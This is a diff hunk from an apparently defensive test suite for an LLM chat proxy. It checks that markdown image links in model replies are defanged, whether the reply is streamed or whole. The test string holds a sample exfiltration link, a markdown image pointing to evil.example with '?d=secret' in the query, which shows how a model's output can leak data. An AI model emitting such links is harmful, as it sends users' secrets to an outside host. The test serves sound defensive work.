@@ -100,7 +100,7 @@ async def test_an_image_that_nobody_named_is_text_whether_streamed_or_whole(tmp_
     """A client loads an image by itself, and what stands in its address goes out."""
     said = "Look at https://good.example/a please. " + "pasted words " * 200
     leak = "See ![x](http://evil.example/i.png?d=secret) and [a](https://good.example/a) now."
-    plain = "See ![x] (http[:]//evil[.]example/i.png?d=secret) and [a] (https[:]//good[.]example/a) now."
+    plain = "See ![x] (http[:]//evil[.]example/i[.]png?d=secret) and [a] (https[:]//good[.]example/a) now."
     step = PausedStep(text_reply(leak), partial=leak[:40])
     async with program(tmp_path, ScriptedModel([step, text_reply(leak)])) as stage:
         stream = await stage.client.chat.completions.create(
